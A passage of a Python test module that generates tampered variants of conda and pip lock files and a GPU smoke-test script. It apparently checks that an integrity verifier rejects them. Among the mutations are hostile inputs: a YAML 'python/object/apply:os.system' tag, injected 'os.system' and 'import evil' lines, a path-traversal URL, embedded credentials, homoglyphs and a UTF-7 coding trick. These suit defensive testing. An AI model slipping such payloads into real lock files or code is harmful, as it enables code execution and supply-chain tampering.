        "two hashes": lambda t: t.replace(line_of(t, start), f"{line_of(t, start)}#{'0' * 32}"),
        "no @EXPLICIT": lambda t: t.replace("@EXPLICIT\n", ""),
        "two @EXPLICIT": lambda t: t.replace("@EXPLICIT\n", "@EXPLICIT\n@EXPLICIT\n"),
        "@explicit": lambda t: t.replace("@EXPLICIT\n", "@explicit\n"),
        "another platform": lambda t: t.replace("# platform: linux-64", "# platform: win-64"),
        "a line less": lambda t: t.replace(f"{line_of(t, start)}\n", ""),
        "a line more": lambda t: f"{t}https://conda.anaconda.org/conda-forge/noarch/x-1-0.conda#{'0' * 32}\n",
        "a line twice": lambda t: f"{t}{line_of(t, start)}\n",
        "a local file": lambda t: f"{t}/tmp/x-1-0.conda\n",
        "a file of the system's": lambda t: f"{t}file:///tmp/x-1-0.conda#{'0' * 32}\n",
        "a match spec": lambda t: f"{t}requests\n",
        "a comment": lambda t: f"{t}# {EVIL}\n",
        "a login": lambda t: t.replace(line_of(t, start), line_of(t, start).replace("https://", "https://me:secret@")),
        "a line behind a carriage return": lambda t: t.replace(
            "@EXPLICIT\n", f"@EXPLICIT\n# x\rhttps://x.example/x/noarch/x-1-0.conda#{'0' * 32}\n"
        ),
        "empty": lambda t: "",
    }.items():
        yield Damage(name=f"explicit lock: {name}", apply=edit(EXPLICIT, change))


def _conda_locks() -> Iterator[Damage]:
    one = "- name: tzdata\n"
    for name, old, new in (
        ("category dev", "category: main", "category: dev"),
        ("optional", "optional: false", "optional: true"),
        ("manager pip", "manager: conda", "manager: pip"),
        ("another platform of a package", "  platform: linux-64\n  dependencies", "  platform: win-64\n  dependencies"),
        ("version 2", "version: 1\n", "version: 2\n"),
        ("version as text", "version: 1\n", "version: '1'\n"),
        ("version true", "version: 1\n", "version: true\n"),
        ("a key of a package", one, f"{one}  x: 1\n"),
        ("a source of a package", one, f"{one}  source: x\n"),
        ("a build of a package", one, f"{one}  build: x\n"),
        ("a key of the metadata", "metadata:\n", "metadata:\n  x: 1\n"),
        ("a time", "metadata:\n", "metadata:\n  time_metadata:\n    created_at: 2026-01-01\n"),
        ("a key", "version: 1\n", "version: 1\nx: 1\n"),
        ("another source", "  - environment.yml", "  - other.yml"),
        ("one more source", "  - environment.yml", "  - environment.yml\n  - other.yml"),
        ("another channel", "  - url: conda-forge", "  - url: somebody"),
        ("one more channel", "  - url: conda-forge", "  - url: somebody\n    used_env_vars: []\n  - url: conda-forge"),
        ("variables of a channel", "used_env_vars: []", "used_env_vars: [X]"),
        ("one more platform", "  - linux-64\n  sources", "  - linux-64\n  - win-64\n  sources"),
        ("another content hash", "    linux-64: ", "    linux-64: 0"),
        ("no content hash", "  content_hash:\n    linux-64: ", "  x:\n    linux-64: "),
        ("a hash more", "    sha256: ", "    sha512: x\n    sha256: "),
        ("no sha256", "    sha256: ", "    x: "),
        ("a comment", "package:\n", f"# {EVIL}\npackage:\n"),
        ("a second document", "package:\n", "package:\n---\n"),
        ("a key twice", "package:\n", "package: []\npackage:\n"),
        ("an anchor", one, "- &a\n  name: tzdata\n"),
        ("a tag", one, "- name: !!str tzdata\n"),
        ("a Python tag", one, "- name: !!python/object/apply:os.system [true]\n"),
        ("a name that is not the file's", one, "- name: tzdat\n"),
    ):
        yield Damage(name=f"conda-lock.yml: {name}", apply=body(CONDA, old, new))
    yield Damage(name="conda-lock.yml: empty", apply=edit(CONDA, lambda t: ""))


def _conda_packages() -> Iterator[Damage]:
    kinds: dict[str, Callable[[Path], None]] = {
        "one digit of a sha256": conda_package("tzdata", sha256=lambda p: other(p.sha256)),
        "one digit of an md5": conda_package("tzdata", md5=lambda p: other(p.md5)),
        "one digit of pytorch's": conda_package("pytorch", sha256=lambda p: other(p.sha256)),
        "another host": conda_package("tzdata", url=lambda p: p.url.replace("conda.anaconda.org", "x.example")),
        "another channel": conda_package("tzdata", url=lambda p: p.url.replace("/conda-forge/", "/somebody/")),
        "a label of the channel": conda_package(
            "tzdata", url=lambda p: p.url.replace("/conda-forge/", "/conda-forge/label/x/")
        ),
        "another subdir": conda_package("tzdata", url=lambda p: p.url.replace("/noarch/", "/linux-64/")),
        "no TLS": conda_package("tzdata", url=lambda p: p.url.replace("https:", "http:")),
        "another format": conda_package("tzdata", url=lambda p: p.url.replace(".conda", ".tar.bz2")),
        "another build": conda_package("tzdata", url=lambda p: p.url.replace("_0.conda", "_9.conda")),
        "another version": conda_package("tzdata", version="2026z", url=lambda p: p.url.replace(p.version, "2026z")),
        "dots in its place": conda_package("tzdata", url=lambda p: p.url.replace("/noarch/", "/x/../noarch/")),
        "all needs are gone": conda(
            lambda lock: replace(lock, packages=tuple(replace(p, depends=()) for p in lock.packages))
        ),
        "a need is gone": conda_package("python", depends=lambda p: p.depends[1:]),
        "a need more": conda_package("tzdata", depends=("python >=3 *",)),
        "a weaker need": conda_package("pytorch", depends=lambda p: tuple(d.split()[0] for d in p.depends)),
        "a package more": conda(_conda_requests),
        "a package more that is asked for": conda(
            lambda lock: replace(_conda_requests(lock), specs=(*lock.specs, "requests=2.32.5"))
        ),
        "a package more that tzdata is said to need": conda(
            lambda lock: replace(
                _conda_requests(lock),
                packages=tuple(
                    replace(p, depends=("requests",)) if p.name == "tzdata" else p
                    for p in _conda_requests(lock).packages
                ),
            )
        ),
        "a package more, every value true": conda(_conda_true),
        "a package more that python is said to need, every value true": conda(lambda lock: _conda_true(lock, "python")),
        "a package more that is asked for, every value true": conda(
            lambda lock: replace(_conda_true(lock), specs=(*lock.specs, "idna=3.11"))
        ),
        "a package less": conda(lambda lock: _without_conda(lock, "tzdata")),
        "cuDNN less": conda(
            lambda lock: replace(
                _without_conda(lock, "libcudnn"), specs=tuple(s for s in lock.specs if "cudnn" not in s)
            )
        ),
        "a package twice": conda(lambda lock: replace(lock, packages=(*lock.packages, lock.packages[0]))),
        "a channel more": conda(lambda lock: replace(lock, channels=(*lock.channels, "somebody"))),
        "another channel of the lock": conda(lambda lock: replace(lock, channels=("somebody",))),
        "a bound less": conda(lambda lock: replace(lock, specs=tuple(s for s in lock.specs if "cudnn" not in s))),
        "a weaker bound": conda(lambda lock: replace(lock, specs=tuple(s.replace("<9.11", "<99") for s in lock.specs))),
        "a weaker build": conda(
            lambda lock: replace(lock, specs=tuple(s.replace("=cuda129*", "=*") for s in lock.specs))
        ),
        "a claim of a newer CUDA": conda(
            lambda lock: replace(lock, virtual_packages=lock.virtual_packages | {"__cuda": "13.0"})
        ),
        "a claim of a newer glibc": conda(
            lambda lock: replace(lock, virtual_packages=lock.virtual_packages | {"__glibc": "2.40"})
        ),
        "a claim of another system": conda(
            lambda lock: replace(lock, virtual_packages=lock.virtual_packages | {"__osx": "14"})
        ),
        "no claim of CUDA": conda(
            lambda lock: replace(
                lock, virtual_packages={k: v for k, v in lock.virtual_packages.items() if k != "__cuda"}
            )
        ),
        "another processor": conda(
            lambda lock: replace(lock, virtual_packages=lock.virtual_packages | {"__archspec": "1 zen4"})
        ),
    }
    for name, apply in kinds.items():
        yield Damage(name=f"conda packages: {name}", apply=apply)


def _environments() -> Iterator[Damage]:
    for name, old, new in (
        ("a channel in front", '  - "conda-forge"', '  - "somebody"\n  - "conda-forge"'),
        ("defaults", "  - nodefaults", "  - defaults"),
        ("no nodefaults", "  - nodefaults\n", ""),
        ("a weaker spec", '"libcudnn<9.11"', '"libcudnn"'),
        ("a spec less", '  - "libcudnn<9.11"\n', ""),
        ("a spec more", '  - "libcudnn<9.11"\n', '  - "libcudnn<9.11"\n  - "requests"\n'),
        ("a pip section", '  - "libcudnn<9.11"\n', '  - "libcudnn<9.11"\n  - pip:\n    - requests\n'),
        ("a channel in a spec", '"libcudnn<9.11"', '"somebody::libcudnn<9.11"'),
        ("another name", "name: ", "name: x"),
        ("a prefix", "channels:\n", "prefix: /tmp/x\nchannels:\n"),
        ("variables", "channels:\n", "variables:\n  X: y\nchannels:\n"),
        ("another platform", '  - "linux-64"', '  - "win-64"'),
        ("one more platform", '  - "linux-64"', '  - "linux-64"\n  - "win-64"'),
        ("another build", "=cuda129*", "=cpu*"),
        ("a comment", "channels:\n", f"# {EVIL}\nchannels:\n"),
        ("a selector", '"libcudnn<9.11"', '"libcudnn<9.11" # [win]'),
        ("a category", "channels:\n", "category: dev\nchannels:\n"),
    ):
        yield Damage(name=f"environment.yml: {name}", apply=body(ENV, old, new))
    for name, old, new in (
        ("a newer CUDA", '__cuda: "12.0"', '__cuda: "13.0"'),
        ("a newer glibc", '__glibc: "2.28"', '__glibc: "2.40"'),
        ("one more", '__cuda: "12.0"', '__cuda: "12.0"\n      __x: "1"'),
        ("one less", '      __cuda: "12.0"\n', ""),
        ("one more platform", "subdirs:\n", 'subdirs:\n  "win-64":\n    packages:\n      __win: "0"\n'),
        ("a key", "subdirs:\n", "x: 1\nsubdirs:\n"),
        ("a key of a platform", "    packages:\n", "    x: 1\n    packages:\n"),
        ("a comment", "subdirs:\n", f"# {EVIL}\nsubdirs:\n"),
        ("a number", '__cuda: "12.0"', "__cuda: 12.0"),
    ):
        yield Damage(name=f"virtual-packages.yml: {name}", apply=body(CLAIMS, old, new))


def _smoke_tests() -> Iterator[Damage]:
    for name, old, new in (
        ("it passes at once", "def main():\n", "def main():\n    return 0\n"),
        ("it runs something", "import sys\n", "import sys\nos.system('true')\n"),
        ("it expects another torch", "'2.14.1'", "'2.13.0'"),
        ("it expects nothing", "EXPECTED = {", 'EXPECTED = {"pairings": [], "gpus": []}\nIGNORED = {'),
        ("it expects another GPU", "'8.6'", "'7.5'"),
        ("a check less", '    ("fp32", lambda', '    # ("fp32", lambda'),
        ("a weaker tolerance", "torch.float32, 1e-5", "torch.float32, 1e5"),
        ("an import of a file beside it", "import argparse\n", "import argparse\nimport evil\n"),
        ("an encoding", '"""Smoke test', '# -*- coding: utf-7 -*-\n"""Smoke test'),
        ("a comment", "class Failed", f"# {EVIL}\nclass Failed"),
        ("a blank line", "class Failed", "\nclass Failed"),
        ("a form feed", "class Failed", "\x0cclass Failed"),
        ("look-alike letters", "def main()", "def m\u0430in()"),
        ("another remedy", "reinstall the driver", f"run {EVIL}"),
    ):
        yield Damage(name=f"smoke_test.py: {name}", apply=body(SMOKE, old, new))


def _files() -> Iterator[Damage]:
    for name in ALL:
        yield Damage(name=f"{name} is gone", apply=gone(name))
        yield Damage(
            name=f"{name} is a link",
            apply=linked(name),
        )
        yield Damage(name=f"{name} is edited", apply=raw(name, lambda b: b + b"\n"))
        yield Damage(name=f"{name} with line ends of Windows", apply=raw(name, lambda b: b.replace(b"\n", b"\r\n")))
    for name in (PIP, EXPLICIT):
        yield Damage(name=f"{name} with a byte order mark", apply=raw(name, lambda b: b"\xef\xbb\xbf" + b))
    for name in (REQS, ENV, CONDA, SMOKE):
        yield Damage(name=f"{name} with a byte order mark", apply=raw(name, lambda b: b"\xef\xbb\xbf" + b))
    yield Damage(name="a file in UTF-16", apply=raw(REQS, lambda b: b.decode().encode("utf-16")))
    yield Damage(name="a file that is no text", apply=raw(REQS, lambda b: b"\xff" + b))
    yield Damage(name="a file of two megabytes", apply=raw(REQS, lambda b: b + b"#" * (2 << 20)))
    yield Damage(name="a folder in place of a file", apply=_folder_instead)
    yield Damage(name="two bodies are swapped", apply=_swap_bodies)
    yield Damage(name="the pip set is gone", apply=each(gone(PIP, REQS)))
    yield Damage(name="the conda set is gone", apply=each(gone(CONDA, EXPLICIT, ENV, CLAIMS)))
    for name, place in {
        "another Python": "linux-64/py3.13/pip-torch-2.14.1-cu126",
        "Windows": "win-64/py3.12/pip-torch-2.14.1-cu126",
        "another tag": "linux-64/py3.12/pip-torch-2.15.0-cu132",
    }.items():
        yield Damage(name=f"the pip set of {name}", apply=_lock_of(place))


def _swap_bodies(folder: Path) -> None:
    (one, first), (two, second) = take(folder / ENV), take(folder / CLAIMS)
    put(folder / ENV, one, second)
    put(folder / CLAIMS, two, first)
    sign(folder)


def _lock_of(place: str) -> Callable[[Path], None]:
    """A whole shipped lock of something else."""
    text = split((SHIPPED / place / PIP).read_text("utf-8"))[1]
    return pip(lambda lock: PYLOCK.read(text, PIP))


def all_kinds() -> list[Damage]:
    """Every kind, each once."""
    groups = (
        _headers,
        _requests,
        _pylocks,
        _pip_packages,
        _requirements,
        _explicit,
        _conda_locks,
        _conda_packages,
        _environments,
        _smoke_tests,
        _files,
    )
    return [damage for group in groups for damage in group()]
